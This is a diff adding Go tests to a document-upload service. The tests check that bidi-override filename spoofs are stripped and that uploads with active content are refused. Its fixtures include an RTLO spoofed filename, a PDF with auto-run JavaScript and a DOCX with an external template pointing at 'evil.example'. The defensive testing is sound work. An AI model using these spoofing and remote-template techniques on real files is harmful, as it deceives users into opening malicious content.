@@ -101,6 +101,46 @@ func TestUpload_StoresBytesAndMetadata(t *testing.T) {
 	require.True(t, letter.IsDefault)
 }
 
+// TestUpload_NamesWithoutFormatCharacters: the stored name and filename
+// lose bidi overrides and other format characters, so "a\u202egpj.exe.pdf"
+// is not shown as a .jpg.
+func TestUpload_NamesWithoutFormatCharacters(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	d, err := b.svc.Upload(context.Background(), b.user.ID, "resume", "", "a\u202egpj.exe.pdf", bytes.NewReader(documentstest.PDF("x")))
+	require.NoError(t, err)
+	stored, err := b.db.DocumentGet(context.Background(), b.user.ID, d.ID)
+	require.NoError(t, err)
+	require.Equal(t, "agpj.exe.pdf", stored.Filename)
+	require.Equal(t, "agpj.exe", stored.Name)
+}
+
+// TestUpload_InspectedBeforeAccepted: a document holding active content
+// (a PDF with JavaScript, a Word document with an external template) is
+// refused with EINVALID naming what was found, and nothing is stored.
+func TestUpload_InspectedBeforeAccepted(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	ctx := context.Background()
+	js := []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n")
+	_, err := b.svc.Upload(ctx, b.user.ID, "resume", "", "cv.pdf", bytes.NewReader(js))
+	require.Equal(t, domain.EINVALID, domain.ErrorCode(err))
+	require.Contains(t, domain.ErrorMessage(err), "JavaScript")
+	require.Contains(t, domain.ErrorDetails(err)["found"], "/JS")
+
+	docx := documentstest.Zip(t, map[string]string{
+		"[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
+		"word/document.xml":   `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>`,
+		"word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+			`<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
+	})
+	_, err = b.svc.Upload(ctx, b.user.ID, "resume", "", "cv.docx", bytes.NewReader(docx))
+	require.Equal(t, domain.EINVALID, domain.ErrorCode(err))
+	require.Contains(t, domain.ErrorMessage(err), "attachedTemplate")
+	require.Empty(t, mustList(t, b))
+	require.Empty(t, documentstest.MustFiles(t, b.dir))
+}
+
 // Exactly the limit passes; one byte more is refused, and so is anything
 // that is not a PDF or DOCX: nothing is stored either way.
 func TestUpload_RefusedStoresNothing(t *testing.T) {
